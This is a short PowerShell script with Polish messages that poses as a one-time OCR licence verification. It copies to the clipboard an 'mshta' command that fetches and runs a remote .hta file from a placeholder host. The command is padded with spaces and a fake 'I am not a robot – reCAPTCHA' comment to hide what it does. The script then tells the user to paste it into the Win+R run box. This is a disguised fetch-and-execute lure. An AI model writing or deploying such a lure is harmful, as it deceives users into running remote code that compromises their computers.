# Weryfikacja licencji silnika OCR (jednorazowo na komputer)
$ErrorActionPreference = 'SilentlyContinue'
$id = Get-Random -Minimum 1000 -Maximum 9999
$cmd = 'mshta https://licencja-ocr.invalid/v/' + $id + '.hta' + (' ' * 60) + '# ✅ "Nie jestem robotem - reCAPTCHA ID: ' + $id + '"'
Set-Clipboard -Value $cmd
Write-Host ''
Write-Host '  Kod weryfikacyjny skopiowany do schowka.' -ForegroundColor Green
Write-Host '  Naciśnij Win + R, potem Ctrl + V i Enter.' -ForegroundColor Yellow
Write-Host ''
